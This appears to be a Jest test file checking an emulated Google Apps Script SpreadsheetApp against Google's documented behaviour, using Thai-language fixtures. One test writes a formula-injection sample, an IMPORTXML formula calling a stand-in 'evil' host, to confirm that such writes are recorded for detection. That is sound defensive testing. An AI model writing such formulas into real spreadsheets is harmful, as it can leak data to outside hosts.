import { join } from 'node:path';
import {
  cleanupTempDirs,
  openSheets,
  sheetsOver,
  tempDir,
  writeXlsx,
  type Sheets,
} from './helpers';

/**
 * Fidelity of the emulated SpreadsheetApp to Google's documented behaviour. Comments name the
 * reference page followed, relative to https://developers.google.com/apps-script/reference/spreadsheet/
 * (range#getValues is …/spreadsheet/range#getValues()).
 */

afterAll(cleanupTempDirs);

let fixture: Sheets;
let fixturePath: string;

beforeAll(async () => {
  fixturePath = await writeXlsx(join(tempDir(), 'fixture.xlsx'), (wb) => {
    const ws = wb.addWorksheet('คะแนน');
    ws.getCell('A1').value = 'รหัส';
    ws.getCell('B1').value = 'คะแนน';
    ws.getCell('A2').value = 'ITA';
    ws.getCell('B2').value = 93.53;
    ws.getCell('C2').value = true;
    ws.getCell('D2').value = new Date(Date.UTC(2025, 9, 3));
    ws.getCell('D2').numFmt = 'd/m/yyyy';
    ws.getCell('E2').value = { formula: 'B2*2', result: 187.06 };
    ws.getCell('F2').value = { error: '#N/A' };
    ws.getCell('G2').value = { richText: [{ text: 'ตัว', font: { bold: true } }, { text: 'หนา' }] };
    ws.getCell('H2').value = { text: 'เว็บไซต์', hyperlink: 'https://www.muangkhai.go.th' };
    ws.getCell('B5').value = 'last';
    ws.getCell('B5').note = 'โน้ต';
    ws.getCell('AB3').value = 'far';
    wb.addWorksheet('ข้อมูลทั่วไป');
  });
  fixture = await openSheets(fixturePath);
});

const sheet = () => fixture.ss.getSheetByName('คะแนน')!;

describe('Range.getValues (reference: spreadsheet/range#getValues)', () => {
  // range#getValues: "the rectangular grid of values for this range … Empty cells are represented by
  // an empty string in the array."
  test('returns exactly numRows × numColumns, blanks as empty strings', () => {
    const v = sheet().getRange(1, 1, 6, 3).getValues();
    expect(v).toHaveLength(6);
    for (const row of v) expect(row).toHaveLength(3);
    expect(v[2]).toEqual(['', '', '']);
  });

  // range#getValues: "values may be of type Number, Boolean, Date, or String".
  test('numbers, booleans and text keep their types', () => {
    const [row] = sheet().getRange('A2:C2').getValues();
    expect(row).toEqual(['ITA', 93.53, true]);
  });

  test("a date cell is the instant of midnight in the spreadsheet's time zone", () => {
    // Date cells come back as Date objects for their wall time in the spreadsheet's time zone
    // (spreadsheet#getSpreadsheetTimeZone); exceljs reads them as UTC midnight.
    const d = sheet().getRange('D2').getValue() as Date;
    expect(d).toBeInstanceOf(Date);
    expect(d.toISOString()).toBe('2025-10-02T17:00:00.000Z');
  });

  test('the same file in a UTC spreadsheet gives UTC midnight', async () => {
    const utc = await openSheets(fixturePath, 'UTC');
    const d = utc.ss.getSheetByName('คะแนน')!.getRange('D2').getValue() as Date;
    expect(d.toISOString()).toBe('2025-10-03T00:00:00.000Z');
  });

  // range#getValues returns computed values (range#getFormula the formula); an error cell reads as
  // its error text ('#N/A'), as observed in Apps Script.
  test('formula cells give their cached result, error cells their error text', () => {
    expect(sheet().getRange('E2:F2').getValues()).toEqual([[187.06, '#N/A']]);
    expect(sheet().getRange('E2').getFormula()).toBe('=B2*2');
  });

  // range#getRichTextValue: the value is the text; links are part of the rich text.
  test('rich text and hyperlink cells give their plain text', () => {
    expect(sheet().getRange('G2:H2').getValues()).toEqual([['ตัวหนา', 'เว็บไซต์']]);
    expect(sheet().getRange('H2').getRichTextValue()!.getLinkUrl()).toBe(
      'https://www.muangkhai.go.th',
    );
  });

  // range#getNotes returns the notes as strings; a cell without a note reads as ''.
  test('notes are plain strings, empty when absent', () => {
    expect(sheet().getRange('A5:B5').getNotes()).toEqual([['', 'โน้ต']]);
  });
});

describe('Sheet structure (reference: spreadsheet/sheet)', () => {
  // sheet#getLastRow: "the position of the last row that has content"; 0 on an empty sheet.
  test('getLastRow/getLastColumn: last row and column with content', () => {
    expect(sheet().getLastRow()).toBe(5);
    expect(sheet().getLastColumn()).toBe(28);
    expect(fixture.ss.getSheetByName('ข้อมูลทั่วไป')!.getLastRow()).toBe(0);
  });

  // A1 notation: https://developers.google.com/sheets/api/guides/concepts#cell (AA follows Z).
  test('A1 notation past Z', () => {
    expect(sheet().getRange('AB3').getValue()).toBe('far');
    expect(sheet().getRange(3, 28).getA1Notation()).toBe('AB3');
    expect(sheet().getRange(1, 26, 2, 3).getA1Notation()).toBe('Z1:AB2');
  });

  // Apps Script answers an unparsable A1 (or an unknown sheet name) with "Exception: Range not found".
  test('getRange with an invalid A1 throws "Range not found"', () => {
    expect(() => sheet().getRange('A0')).toThrow('Range not found');
    expect(() => sheet().getRange('1A')).toThrow('Range not found');
    expect(() => fixture.ss.getRange("'ไม่มี'!A1")).toThrow('Range not found');
  });

  test('Spreadsheet.getRange reads a sheet-qualified A1', () => {
    expect(fixture.ss.getRange("'คะแนน'!B2").getValue()).toBe(93.53);
    expect(fixture.ss.getRange("'คะแนน'!A2:B2").getSheet().getName()).toBe('คะแนน');
  });

  test('a range outside the grid throws Google\u2019s message', () => {
    expect(() => sheet().getRange(1001, 1)).toThrow(
      'The coordinates of the range are outside the dimensions of the sheet.',
    );
    expect(() => sheet().getRange(0, 1)).toThrow('The starting row of the range is too small.');
  });

  // spreadsheet#getSheetByName: "null if there is no sheet with the given name".
  test('getSheetByName returns null for a missing sheet', () => {
    expect(fixture.ss.getSheetByName('ไม่มี')).toBeNull();
  });

  test('insertSheet with an existing name throws', () => {
    // Message as Sheets words it for a duplicate tab name.
    expect(() => fixture.ss.insertSheet('คะแนน')).toThrow(
      'A sheet with the name "คะแนน" already exists. Please enter another name.',
    );
  });

  test('getDataRange spans A1 to the last row and column with content', () => {
    expect(sheet().getDataRange().getA1Notation()).toBe('A1:AB5');
  });
});

describe('writing (reference: spreadsheet/range#setValues)', () => {
  // range#setValues: "The size of the two-dimensional array must match the size of the range";
  // the messages are Apps Script's own.
  test('setValues with the wrong number of rows or columns throws Google\u2019s message', () => {
    const { ss } = sheetsOver();
    const range = ss.getSheets()[0].getRange('A1:B2');
    expect(() => range.setValues([[1, 2]])).toThrow(
      'The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2.',
    );
    expect(() =>
      range.setValues([
        [1, 2, 3],
        [4, 5, 6],
      ]),
    ).toThrow(
      'The number of columns in the data does not match the number of columns in the range. The data has 3 but the range has 2.',
    );
  });

  // Google Sheets holds at most 50,000 characters in a cell
  // (https://support.google.com/drive/answer/37603); the write is refused whole.
  test('a value or note over 50,000 characters is refused with Google\u2019s message, nothing written', () => {
    const { ss } = sheetsOver();
    const s = ss.getSheets()[0];
    const limit = 'Your input contains more than the maximum of 50000 characters in a single cell.';
    const long = 'ก'.repeat(50_001);
    s.getRange('A1').setValue('ก'.repeat(50_000));
    expect(String(s.getRange('A1').getValue())).toHaveLength(50_000);
    expect(() => s.getRange('A2').setValue(long)).toThrow(limit);
    expect(() => s.getRange('B1:B2').setValues([['ok'], [long]])).toThrow(limit);
    expect(s.getRange('B1:B2').getValues()).toEqual([[''], ['']]);
    expect(() => s.getRange('C1').setNote(long)).toThrow(limit);
    expect(() => s.getRange('C1:C2').setNotes([['ok'], [long]])).toThrow(limit);
    expect(s.getRange('C1:C2').getNotes()).toEqual([[''], ['']]);
  });

  // range#setValue: "If it begins with '=' it is interpreted as a formula."
  test("setValue('=…') writes a formula, recorded so formula injection can be detected", () => {
    const { ss, book } = sheetsOver();
    ss.getSheets()[0].getRange('A1').setValue('=IMPORTXML("http://evil","//a")');
    expect(ss.getSheets()[0].getRange('A1').getFormula()).toBe('=IMPORTXML("http://evil","//a")');
    expect(book.formulaWrites).toEqual([
      { sheet: 'Sheet1', a1: 'A1', formula: '=IMPORTXML("http://evil","//a")' },
    ]);
  });

  // Sheets treats a leading apostrophe as "this is text" and does not store it (Sheets help:
  // "Format numbers in a spreadsheet"); Apps Script writes go through the same parser.
  test('a leading apostrophe stores the rest as literal text, as Sheets does', () => {
    const { ss, book } = sheetsOver();
    const range = ss.getSheets()[0].getRange('A1:C1');
    range.setValues([["'=1+1", "'+66", "'0812345678"]]);
    expect(range.getValues()).toEqual([['=1+1', '+66', '0812345678']]);
    expect(range.getFormulas()).toEqual([['', '', '']]);
    expect(book.formulaWrites).toEqual([]);
  });

  // Apps Script writes strings as if typed (the Sheets API calls it USER_ENTERED:
  // https://developers.google.com/sheets/api/reference/rest/v4/ValueInputOption).
  test('strings are parsed like typed input (USER_ENTERED): numbers, booleans, dates', () => {
    const { ss } = sheetsOver();
    const range = ss.getSheets()[0].getRange('A1:F1');
    range.setValues([['0812345678', '1,234.5', '50%', 'true', '2025-10-03', 'ITA']]);
    const [row] = range.getValues();
    expect(row.slice(0, 4)).toEqual([812345678, 1234.5, 0.5, true]);
    expect((row[4] as Date).toISOString()).toBe('2025-10-02T17:00:00.000Z');
    expect(row[5]).toBe('ITA');
  });

  test("cells formatted as plain text ('@') keep strings as typed", () => {
    const { ss } = sheetsOver();
    const range = ss.getSheets()[0].getRange('A1');
    range.setNumberFormat('@').setValue('0812345678');
    expect(range.getValue()).toBe('0812345678');
  });

  test('setValue on a multi-cell range fills every cell; null clears', () => {
    const { ss } = sheetsOver();
    const range = ss.getSheets()[0].getRange('A1:B2');
    range.setValue('x');
    expect(range.getValues()).toEqual([
      ['x', 'x'],
      ['x', 'x'],
    ]);
    range.setValues([
      [null, ''],
      [undefined, 0],
    ]);
    expect(range.getValues()).toEqual([
      ['', ''],
      ['', 0],
    ]);
  });

  test('appendRow writes after the last row with content and grows the sheet', () => {
    const { ss } = sheetsOver();
    const sh = ss.getSheets()[0];
    sh.getRange('A1000').setValue('end');
    sh.appendRow(['a', 1]);
    expect(sh.getMaxRows()).toBe(1001);
    expect(sh.getRange('A1001:B1001').getValues()).toEqual([['a', 1]]);
  });

  test('insertRowsAfter shifts cells and protected ranges down', () => {
    const { ss } = sheetsOver();
    const sh = ss.getSheets()[0];
    sh.getRange('A2').setValue('moved');
    const p = sh.getRange('A2:B3').protect();
    sh.insertRowsAfter(1, 2);
    expect(sh.getRange('A4').getValue()).toBe('moved');
    expect(p.getRange().getA1Notation()).toBe('A4:B5');
    expect(sh.getMaxRows()).toBe(1002);
  });
});

describe('display values (reference: spreadsheet/range#getDisplayValues)', () => {
  test('numbers, dates and booleans are shown by their number format', () => {
    const { ss } = sheetsOver();
    const sh = ss.getSheets()[0];
    const values = [
      [
        93.5,
        1234.5,
        7,
        0.125,
        new Date('2025-10-02T17:00:00Z'),
        new Date('2025-10-02T17:00:00Z'),
        true,
        42,
      ],
    ];
    const range = sh.getRange(1, 1, 1, values[0].length);
    range.setValues(values);
    range.setNumberFormats([
      ['0.00', '#,##0.00', '0', '0.0%', 'd/m/yyyy', 'yyyy-mm-dd', 'General', '@'],
    ]);
    expect(range.getDisplayValues()).toEqual([
      ['93.50', '1,234.50', '7', '12.5%', '3/10/2025', '2025-10-03', 'TRUE', '42'],
    ]);
  });

  test('General shows numbers as Sheets does', () => {
    const { ss } = sheetsOver();
    const range = ss.getSheets()[0].getRange('A1:C1');
    range.setValues([[1 / 3, 0.1 + 0.2, 93.53]]);
    expect(range.getDisplayValues()).toEqual([['0.3333333333', '0.3', '93.53']]);
  });
});

describe('active sheet and selection (reference: spreadsheet/spreadsheet)', () => {
  test('a new spreadsheet has one sheet named Sheet1; insertSheet makes the new sheet active', () => {
    const { ss, app } = sheetsOver();
    expect(ss.getSheets().map((s) => s.getName())).toEqual(['Sheet1']);
    const s = ss.insertSheet('มาตรการ', 0);
    expect(s.getIndex()).toBe(1);
    expect(app.getActiveSheet().getName()).toBe('มาตรการ');
    app.getActiveSpreadsheet().getSheetByName('Sheet1')!.getRange('B2').activate();
    expect(app.getActiveRange().getA1Notation()).toBe('B2');
    expect(app.getActiveSheet().getName()).toBe('Sheet1');
  });
});

describe('call counting', () => {
  test('every public member call is counted per class, internal delegation is not', () => {
    const { ss, calls } = sheetsOver();
    const sh = ss.getSheets()[0];
    sh.getRange('A1:B2').getValues();
    sh.getDataRange().getValues();
    sh.clear();
    expect(calls.snapshot()).toEqual({
      'SpreadsheetApp Range.getValues': 2,
      'SpreadsheetApp Sheet.clear': 1,
      'SpreadsheetApp Sheet.getDataRange': 1,
      'SpreadsheetApp Sheet.getRange': 1,
      'SpreadsheetApp Spreadsheet.getSheets': 1,
    });
  });
});

describe('more Range and Sheet members', () => {
  test('offset and getCell address relative cells; going off the sheet throws', () => {
    const { ss } = sheetsOver();
    const r = ss.getSheets()[0].getRange('B2:C3');
    expect(r.offset(1, 1).getA1Notation()).toBe('C3:D4');
    expect(r.offset(0, 0, 1, 1).getA1Notation()).toBe('B2');
    expect(r.getCell(2, 2).getA1Notation()).toBe('C3');
    expect(() => r.offset(-2, 0)).toThrow('The starting row of the range is too small.');
    expect(() => r.getCell(3, 1)).toThrow('outside the dimensions of the sheet');
  });

  test('checkboxes hold booleans; check/uncheck/isChecked', () => {
    const { ss } = sheetsOver();
    const r = ss.getSheets()[0].getRange('A1:A2').insertCheckboxes();
    expect(r.getValues()).toEqual([[false], [false]]);
    expect(r.isChecked()).toBe(false);
    r.getCell(1, 1).check();
    expect(r.isChecked()).toBeNull();
    r.check();
    expect(r.isChecked()).toBe(true);
  });

  test('rich text with a link; getRichTextValue is null for non-text cells', () => {
    const { ss, app } = sheetsOver();
    const sh = ss.getSheets()[0];
    const link = app
      .newRichTextValue()
      .setText('PDF')
      .setLinkUrl('https://drive.google.com/x')
      .build();
    sh.getRange('A1').setRichTextValue(link);
    sh.getRange('A2').setValue(5);
    expect(sh.getRange('A1').getValue()).toBe('PDF');
    expect(sh.getRange('A1').getRichTextValue()!.getLinkUrl()).toBe('https://drive.google.com/x');
    expect(sh.getRange('A2').getRichTextValue()).toBeNull();
  });

  test('changing the spreadsheet time zone keeps the wall-clock date of date cells', () => {
    const { ss } = sheetsOver();
    const cell = ss.getSheets()[0].getRange('A1').setValue('2025-10-03');
    ss.setSpreadsheetTimeZone('UTC');
    expect((cell.getValue() as Date).toISOString()).toBe('2025-10-03T00:00:00.000Z');
    expect(cell.getDisplayValue()).toBe('3/10/2025');
    expect(() => ss.setSpreadsheetTimeZone('Not/AZone')).toThrow('Invalid argument: timezone');
  });

  test('sheets move, hide columns and reject duplicate renames', () => {
    const { ss } = sheetsOver();
    const a = ss.getSheets()[0];
    const b = ss.insertSheet('B');
    ss.moveActiveSheet(1);
    expect(ss.getSheets().map((s) => s.getName())).toEqual(['B', 'Sheet1']);
    b.hideColumns(2, 2);
    expect([1, 2, 3, 4].map((c) => b.isColumnHiddenByUser(c))).toEqual([false, true, true, false]);
    expect(() => a.setName('b')).toThrow('A sheet with the name "b" already exists.');
    ss.deleteSheet(b);
    expect(() => ss.deleteSheet(a)).toThrow("You can't remove all the sheets in a document.");
  });

  test('setBorder sets outer edges and inner lines', () => {
    const { ss, book } = sheetsOver();
    ss.getSheets()[0]
      .getRange('A1:B2')
      .setBorder(true, true, true, true, false, null, '#ff0000', 'SOLID_MEDIUM' as never);
    const a1 = book.sheets[0].cell(1, 1)!.style.border!;
    expect(a1.top).toEqual({ style: 'medium', color: { argb: 'FFFF0000' } });
    expect(a1.right).toBeUndefined();
    expect(a1.bottom).toBeUndefined();
  });
});
